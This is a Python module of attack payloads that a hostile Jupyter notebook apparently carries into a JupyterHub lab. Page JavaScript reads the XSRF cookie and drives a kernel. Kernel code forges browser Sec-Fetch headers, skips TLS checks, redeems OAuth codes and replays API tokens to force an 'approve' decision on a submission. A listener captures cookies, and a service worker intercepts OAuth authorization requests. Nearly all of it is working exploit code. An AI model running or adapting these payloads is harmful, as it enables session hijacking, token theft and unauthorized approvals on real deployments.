"""What a hostile notebook brings along: code for its kernel, for a lab page, and for a service worker."""

from __future__ import annotations

# A real kernel of the lab that this page belongs to, started and spoken to by JavaScript of the page; returns what it printed.
RUN_IN_A_KERNEL = r"""async code => {
    const base = location.pathname.match(/^\/user\/[^/]+/)[0];
    const xsrf = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || '';
    const headers = {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'};
    const start = async () => (await fetch(`${base}/api/kernels`, {method: 'POST', headers, body: '{}'})).json();
    const kernel = window.kernel = window.kernel || await start();
    const socket = new WebSocket(`${location.origin.replace('http', 'ws')}${base}/api/kernels/${kernel.id}/channels`);
    await new Promise((done, failed) => { socket.onopen = done; socket.onerror = failed; });
    const id = crypto.randomUUID();
    const header = {msg_id: id, msg_type: 'execute_request', username: '', session: id, version: '5.3'};
    const content = {code, silent: false, store_history: false, allow_stdin: false};
    socket.send(JSON.stringify({header, parent_header: {}, metadata: {}, channel: 'shell', content, buffers: []}));
    let said = '';
    await new Promise(done => {
        socket.onmessage = event => {
            const message = JSON.parse(event.data);
            if (message.parent_header.msg_id !== id) return;
            if (message.msg_type === 'stream') said += message.content.text;
            if (message.msg_type === 'error') said += `${message.content.ename}: ${message.content.evalue}`;
            if (message.msg_type === 'status' && message.content.execution_state === 'idle') setTimeout(done, 200);
        };
    });
    socket.close();
    return said;
}"""

# For `str.format` with port, pages, host and number. A client that is no browser says whatever it likes.
IN_THE_KERNEL = '''
import base64, http.client, http.server, json, os, re, ssl, threading
import urllib.error, urllib.parse, urllib.request
FORGED = {{"Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document", "Sec-Fetch-Site": "none", "Sec-Fetch-User": "?1", "Accept": "text/html"}}
PATH, NUMBER = "/services/enablement", {number}

def ask(port, method, path, headers=None, body=None):
    wire = http.client.HTTPSConnection("127.0.0.1", port, timeout=30, context=ssl._create_unverified_context())
    wire.request(method, path, body, {{"Host": "{host}:%d" % port, **(headers or {{}})}})
    answer = wire.getresponse()
    text = answer.read().decode("utf-8", "replace")
    cookies = [value.split(";")[0] for name, value in answer.getheaders() if name.lower() == "set-cookie"]
    wire.close()
    return answer.status, answer.getheader("Location") or "", cookies, text

def api(path, body=None, headers=None):
    token = {{"Authorization": "token " + os.environ["JUPYTERHUB_API_TOKEN"], **(headers or {{}})}}
    try:
        answer = urllib.request.urlopen(urllib.request.Request(os.environ["ENABLEMENT_SERVICE_URL"] + path, body, token), timeout=60)
        return [answer.status, answer.read().decode()]
    except urllib.error.HTTPError as error:
        return [error.code, error.read().decode()]

def begin(port):
    status, location, cookies, _ = ask(port, "GET", f"{{PATH}}/decide/{{NUMBER}}", FORGED)
    return {{"status": status, "location": location, "cookies": cookies}}

def session_of(cookies):
    for port in ({pages}, {port}):
        status, _, _, text = ask(port, "GET", f"{{PATH}}/decide/{{NUMBER}}", {{**FORGED, "Cookie": "; ".join(cookies)}})
        if status == 200 and "ticket" in text:
            return text
    return ""

def redeem_and_decide(address, cookies):
    """The whole of it: code to session, session to ticket, ticket to decision."""
    if "code=" not in address:
        return "no code"
    query = urllib.parse.urlsplit(address).query
    for port in ({pages}, {port}):
        headers = {{**FORGED, "Cookie": "; ".join(cookies)}}
        status, _, gained, _ = ask(port, "GET", f"{{PATH}}/oauth_callback?{{query}}", headers)
        page = session_of([*cookies, *gained])
        if not page:
            continue
        fields = dict(re.findall(r'<input type="hidden" name="([a-z_]+)" value="([^"]*)">', page))
        form = urllib.parse.urlencode({{**fields, "verdict": "approve"}})
        headers |= {{"Cookie": "; ".join(gained), "Content-Type": "application/x-www-form-urlencoded", "Origin": "https://{host}:%d" % port}}
        return "decided %d" % ask(port, "POST", f"{{PATH}}/decide/{{NUMBER}}", headers, form)[0]
    return "refused"

def with_tokens(more):
    answers = []
    for token in [os.environ["JUPYTERHUB_API_TOKEN"], *more]:
        for port in ({pages}, {port}):
            for method, kind in (("GET", ""), ("POST", "application/x-www-form-urlencoded"), ("POST", "application/json")):
                headers = {{**FORGED, "Authorization": "token " + token, "Origin": "https://{host}:{pages}"}}
                headers |= {{"Content-Type": kind}} if kind else {{}}
                status, _, _, text = ask(port, method, f"{{PATH}}/decide/{{NUMBER}}", headers, "verdict=approve" if kind else None)
                answers.append([status, text])
            for path in ("/api/v1/submissions/%d/approve" % NUMBER, "/api/v1/submissions/%d/decisions" % NUMBER):
                headers = {{"Authorization": "token " + token, "Content-Type": "application/json"}}
                status, _, _, text = ask(port, "POST", PATH + path, headers, "{{}}")
                answers.append([status, text])
    return answers

class Listener(http.server.BaseHTTPRequestHandler):
    seen = []
    def do_GET(self):
        Listener.seen.append(self.headers.get("Cookie", ""))
        self.send_response(200); self.send_header("Content-Length", "0"); self.end_headers()
    def log_message(self, *_): pass

def listen():
    global LISTENING
    LISTENING = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Listener)
    threading.Thread(target=LISTENING.serve_forever, daemon=True).start()
    globals()["KEPT"] = Listener
    return {{"port": LISTENING.server_port}}

def heard():
    return list(KEPT.seen)
'''

# Stands between the browser and everything on its origin, and tells every page of it what it saw.
SERVICE_WORKER = """
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', event => event.waitUntil(self.clients.claim()));
const channel = new BroadcastChannel('worker');
self.addEventListener('fetch', event => {
    channel.postMessage('asked ' + event.request.url);
    if (!event.request.url.includes('oauth2/authorize')) return;
    event.respondWith((async () => {
        for (const redirect of ['follow', 'manual']) {
            try {
                const r = await fetch(event.request.url, {credentials: 'include', redirect});
                channel.postMessage(`${redirect} ${r.type} ${r.url} ${r.headers.get('location')}`);
            } catch (error) { channel.postMessage(`${redirect} ${error.name}`); }
        }
        return fetch(event.request);
    })());
});
"""
